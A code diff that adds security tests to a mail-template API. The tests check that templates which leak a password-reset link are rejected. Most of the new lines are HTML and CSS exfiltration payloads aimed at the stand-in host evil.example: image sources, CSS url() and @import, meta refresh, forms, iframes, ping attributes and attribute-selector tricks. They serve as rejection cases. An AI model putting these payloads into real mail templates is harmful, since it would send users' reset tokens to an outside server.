@@ -161,3 +161,84 @@ describe('#62 injection by texts of mails and links of apps', () => {
     expect(await mailsTo('mallory@example.org')).toEqual([]);
   });
 });
+
+describe('#69 the name of the operator for rent', () => {
+  const TEST = `mutation ($to: String, $sample: MailTemplateKind) { testMail(to: $to, sample: $sample) { isAccepted } }`;
+  const link = '{{link}}';
+
+  test.each([
+    `<img src="https://evil.example/?${link}">`,
+    `<img src=x srcset="https://evil.example/?{{ link }} 2x">`,
+    `<a href="https://evil.example/?${link}">Set a password</a>`,
+    `<a href="https://evil.example/" href="${link}">Set a password</a>`,
+    `<a href="${link}" ping="https://evil.example/">Set a password</a>`,
+    `<area href="${link}">`,
+    `<p style="background:url(https://evil.example/?${link})">x</p>`,
+    `<style>p { background: url(https://evil.example/?${link}) }</style>`,
+    `<!--[if mso]><img src="https://evil.example/?${link}"><![endif]-->`,
+    `<form action="https://evil.example/"><textarea name="t">${link}</textarea><button>Go on</button></form>`,
+    `<form action="https://evil.example/"><input name="t" value="${link}"><button>Go on</button></form>`,
+    `<form action="https://evil.example/"><select><option>${link}</option></select></form>`,
+    `<meta http-equiv="refresh" content="0; url=https://evil.example/?${link}">`,
+    `<iframe src="https://evil.example/?${link}"></iframe>`,
+    `<svg><a href="https://evil.example/?${link}"></a></svg>`,
+    `<p>https://evil.example/?${link}</p>`,
+    `<p>https://evil.example/?<b>${link}</b></p>`,
+    `<p>https://evil.example/?(${link})</p>`,
+    // Braces as character references are no placeholder, so they must not count in place of one.
+    `<img src="https://evil.example/?${link}"><a href="&#123;{link}}">Set a password</a>`,
+    `<style>a[href*="token=a"] { background: url(https://evil.example/a) }</style><a href="${link}">x</a>`,
+    `<style><!-- a[href*="token=a"] {} --></style><a href="${link}">x</a>`,
+    `<style>x<y{} a[href*="token=a"] {}</style><a href="${link}">x</a>`,
+    `<style>@\\69mport "https://evil.example/x.css"</style><a href="${link}">x</a>`,
+    `<link rel="stylesheet" href="https://evil.example/x.css"><a href="${link}">x</a>`,
+  ])('no other server gets the link of a mail: %s', async (html) => {
+    for (const document of [UPDATE, PREVIEW]) {
+      const input = { ...TEXTS, html: `<p>Open ${link}</p>${html}` };
+      expect(await errorOf(document, { input }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
+    }
+  });
+
+  test.each([
+    'https://evil.example/?t={{link}}',
+    'evil.example/{{ link }}',
+    '(https://evil.example/?({{link}}))',
+    'x{{link|y}}',
+  ])('a plain text does not prolong another address: %s', async (text) => {
+    const input = { ...TEXTS, text };
+    expect(await errorOf(UPDATE, { input }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
+  });
+
+  test('a text may contain the link as a word, in brackets and as the address of a link', async () => {
+    const html = `<style>@media (max-width: 600px) { p { color: red } }</style>
+      <table><tr><td>Open</td><td>${link}</td></tr></table><p>(<b>${link}</b>) or <a class="button" href=" {{ link }} ">here</a></p>`;
+    const input = { ...TEXTS, text: `Open <${link}>, or\n${link}.`, html };
+    expect((await execute(UPDATE, { input }, apiKey)).updateMailTemplate).toMatchObject({ html });
+  });
+
+  test('a mail of the application goes to the administrator who asks for it and to no other person', async () => {
+    const developer = await signedInAdministrator('developer');
+    const strangers = ['stranger@example.org', `${developer.email}.evil.example`, ` x${developer.email}`];
+    for (const as of [developer, apiKey]) {
+      for (const to of [...strangers, ...(as === apiKey ? [developer.email] : [])]) {
+        const refused = await errorOf(TEST, { to, sample: 'PASSWORD_RESET' }, as);
+        expect([to, refused]).toMatchObject([to, { code: 'UNPROCESSABLE' }]);
+      }
+    }
+    expect(await errorOf(TEST, { sample: 'PASSWORD_RESET' }, apiKey)).toMatchObject({ code: 'UNPROCESSABLE' });
+    expect(await mailsTo('stranger@example.org')).toEqual([]);
+    await execute(TEST, { to: developer.email.toUpperCase(), sample: 'PASSWORD_RESET' }, developer);
+  });
+
+  test('each test mail leaves an entry with its recipient', async () => {
+    const developer = await signedInAdministrator('developer');
+    await execute(TEST, { to: 'reader@example.org' }, developer);
+    await execute(TEST, { to: 'reader@example.org' }, apiKey);
+    const where = { applicationId: APPLICATION.id, subject: 'TestMail', subjectId: 'reader@example.org' };
+    const entries = await db.auditEntry.findMany({ where, orderBy: { id: 'asc' } });
+    expect(entries).toMatchObject([
+      { action: 'create', actorKind: 'administrator', actorId: developer.id, after: { sample: null } },
+      { action: 'create', actorKind: 'apiKey' },
+    ]);
+  });
+});
